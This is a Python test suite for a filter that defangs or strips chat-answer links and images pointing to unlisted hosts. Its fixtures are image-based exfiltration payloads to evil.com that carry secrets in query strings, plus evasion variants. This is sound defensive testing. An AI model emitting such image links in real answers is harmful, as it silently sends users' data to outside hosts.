"""Links and images to hosts that are not listed, in the texts of answers and over their pieces."""

from __future__ import annotations

import json
import sys
from types import FrameType

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from sidecar.redaction.filters import text_filter
from sidecar.redaction.links import AllowedHosts, Found, LinkScanner, OnOther, may_link, named_host
from tests.support.redaction import cut, every, run
from tests.support.streams import FORMATS

ALLOWED = AllowedHosts(["docs.example.com", "*.wikipedia.org"])
IMAGES = AllowedHosts(["img.example.com"])


def scanner(on_other: OnOther = OnOther.DEFANG) -> LinkScanner:
    return LinkScanner(ALLOWED, IMAGES, "chat.example.com", on_other)


def shown(text: str, kind: bytes = b"text/plain", size: int = 10_000, on_other: OnOther = OnOther.DEFANG) -> str:
    return run(text_filter(kind, scanner(on_other), may_link), every(text.encode(), size)).decode()


CHANGED = {
    "image": ("![x](https://evil.com/p?q=1)", "![x](hxxp:https://evil.com/p?q=1)"),
    "image-of-a-listed-link": ("![x](https://docs.example.com/p)", "![x](hxxp:https://docs.example.com/p)"),
    "link": ("[x](https://evil.com)", "[x](hxxp:https://evil.com)"),
    "in-angle-brackets": ("[x](<https://evil.com/a>)", "[x](<hxxp:https://evil.com/a>)"),
    "definition": ("[x]: https://evil.com/a 'b'", "[x]: hxxp:https://evil.com/a 'b'"),
    "autolink": ("see <https://evil.com/a>", "see <hxxp:https://evil.com/a>"),
    "linked-image": ("[![x](//evil.com/a)](/y)", "[![x](hxxp://evil.com/a)](/y)"),
    "html-image": ('<img src="https://evil.com/a">', '<img src="hxxp:https://evil.com/a">'),
    "html-unquoted": ("<img src=//evil.com/a>", "<img src=hxxp://evil.com/a>"),
    "html-link": ("<a href='http:evil.com'>", "<a href='hxxp:http:evil.com'>"),
    "style": ("<p style='background:url(https://evil.com/a)'>", "<p style='background:url(hxxp:https://evil.com/a)'>"),
    "srcset": ("<img srcset='/a 1x, //evil.com/b 2x'>", "<img srcset='/a 1x, hxxp://evil.com/b 2x'>"),
    "entities": ("![x](&#104;ttps://evil.com/a)", "![x](hxxp:&#104;ttps://evil.com/a)"),
    "backslashes": (r'<img src="\\evil.com\a">', r'<img src="hxxp:\\evil.com\a">'),
    "credentials": ("![](https://img.example.com@evil.com/)", "![](hxxp:https://img.example.com@evil.com/)"),
    "lower-name": ("![](https://img.example.com.evil.com/)", "![](hxxp:https://img.example.com.evil.com/)"),
}
UNCHANGED = [
    "[x](https://docs.example.com/a) [y](https://de.wikipedia.org/wiki/X) [z](/relative) [w](#part)",
    "![x](https://IMG.example.com/a.png) ![y](data:image/png;base64,AAAA) ![z](a.png)",
    "![own](https://chat.example.com/a.png) [mail](mailto:a@example.com)",
    "bare https://evil.com/x stays; so do a[1](2), x == y, <b>bold</b> and `src = https`",
    "if a[i]: http = 1; f(x)[0](y)",
]


@pytest.mark.parametrize("size", [1, 2, 3, 7, 10_000])
@pytest.mark.parametrize("way", CHANGED)
def test_other_hosts_are_defanged_at_every_cut(way: str, size: int) -> None:
    text, expected = CHANGED[way]
    assert shown(f"a {text} b", size=size) == f"a {expected} b"


@pytest.mark.parametrize("size", [1, 5, 10_000])
@pytest.mark.parametrize("text", UNCHANGED)
def test_what_leads_nowhere_else_passes(text: str, size: int) -> None:
    assert shown(text, size=size) == text


@pytest.mark.parametrize("size", [1, 4, 10_000])
def test_a_removed_url_leaves_nothing_of_its_query(size: int) -> None:
    text = "a ![x](https://evil.com/p?q=c2VjcmV0) [ok](https://docs.example.com/) end"
    expected = "a ![x](about:blank#removed) [ok](https://docs.example.com/) end"
    assert shown(text, size=size, on_other=OnOther.REMOVE) == expected


@settings(deadline=None, max_examples=400)
@given(
    name=st.sampled_from(sorted(FORMATS)),
    at=st.lists(st.integers(0, 500), max_size=20),
    chunks=st.lists(st.integers(0, 9000), max_size=20),
)
@example(name="own-field", at=[11], chunks=[])
def test_no_cut_lets_an_image_pass_in_any_format(name: str, at: list[int], chunks: list[int]) -> None:
    text = "see ![x](https://evil.com/p?q=secret) and [y](https://docs.example.com/z) end"
    pieces = [piece.decode() for piece in cut(text.encode(), at)]
    if name == "data-lines":
        pieces = [text]  # a reader puts line breaks between the pieces
    form = FORMATS[name]
    body = run(text_filter(form.media_type, scanner(), may_link), cut(form.body(pieces), chunks))
    read = form.read(body)
    # In a place where no protocol streams texts three bytes may have passed: they become part of another scheme.
    ways = ["hxxp:https:", *("https"[:size] + "xp:" + "https:"[size:] for size in (1, 2, 3))]
    assert read in [text.replace("https://evil", f"{way}//evil") for way in ways]


@settings(deadline=None)
@given(text=st.text("![](<a)>:/ \\\"'=srchtps.lmu\n", max_size=120), at=st.lists(st.integers(0, 500), max_size=12))
def test_chunks_change_nothing(text: str, at: list[int]) -> None:
    whole = run(text_filter(b"text/html", scanner(), may_link), [text.encode()])
    assert run(text_filter(b"text/html", scanner(), may_link), cut(text.encode(), at)) == whole


def test_a_url_waits_only_until_its_host_is_known() -> None:
    stream = text_filter(b"text/plain", scanner(), may_link)
    said = ["Look ![", "here](ht", "tps://docs", ".example", ".com/a", "/b?c)", " more"]
    assert [stream.feed(piece.encode()).decode() for piece in said] == [
        "Look ![", "here](", "", "", "hxxp:https://docs.example.com/a", "/b?c)", " more",
    ]  # fmt: skip


def test_json_strings_are_read_as_their_reader_gets_them() -> None:
    body = json.dumps({"text": '![x](https://evil.com/a) "<img src="//evil.com">'}).replace("/", "\\/")
    seen = json.loads(shown(body, b"application/json"))
    assert seen == {"text": '![x](hxxp:https://evil.com/a) "<img src="hxxp://evil.com">'}


def test_what_was_found_is_told_without_path_and_query() -> None:
    look = scanner(OnOther.OBSERVE)
    text = "![x](https://evil.com/?d=c2stcHJvai1BYjlfejAxMjM0NTY3ODk) [y](https://other.org/index)"
    run(text_filter(b"text/plain", look, may_link), [text.encode()])
    assert look.take() == [Found("evil.com", "image", True), Found("other.org", "link", False)]
    assert look.take() == []


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://A.Example.com./x", "a.example.com"),
        ("//a.com:80", "a.com"),
        ("https:/a.com", "a.com"),
        ("https:a.com", "a.com"),
        ("ht\ttps://a.com", "a.com"),
        ("https://ex%61mple.com/", "example.com"),
        ("https://bücher.de/", "xn--bcher-kva.de"),
        ("/a", ""),
        ("a/b", ""),
        ("mailto:a@b", ""),
        ("https://", "?"),
    ],
)
def test_hosts_as_browsers_read_them(url: str, host: str) -> None:
    assert named_host(url.encode(), whole=True) == host


def operations(text: bytes) -> int:
    """Count the calls that a text takes, in Python and into C."""
    count = 0

    def seen(frame: FrameType, event: str, argument: object) -> None:
        nonlocal count
        count += event in {"call", "c_call"}

    stream = text_filter(b"text/plain", scanner(OnOther.REMOVE), may_link)
    sys.setprofile(seen)
    try:
        run(stream, every(text, 4096))
    finally:
        sys.setprofile(None)
    return count


@pytest.mark.parametrize(
    "unit", ["](", "src=", "![a](", "<https:", "url(", ", //", "]:", "](https://evil.com/", "srcset=, //a "]
)
def test_hostile_text_costs_in_proportion(unit: str) -> None:
    text = (unit * 20_000).encode()[:32_768]
    once = operations(text)
    assert once < 16 * len(text), "tens of calls for each byte would stall the loop"
    assert operations(text * 3) < 4 * once + 200


def test_every_host_may_be_linked_to_while_images_are_looked_at() -> None:
    scanner = LinkScanner(AllowedHosts(["*"]), AllowedHosts(["img.example.com"]), "chat.example.com", OnOther.DEFANG)
    text = (
        b"[a](https://a.example/x) ![b](https://b.example/x) ![c](https://img.example.com/x) <a href=https://d.example>"
    )
    hits, _ = scanner.scan(text, b"", True)
    assert [hit.mark for hit in hits] == [b"hxxp:https://b.example/x"]
    assert [found.host for found in scanner.take()] == ["b.example"]
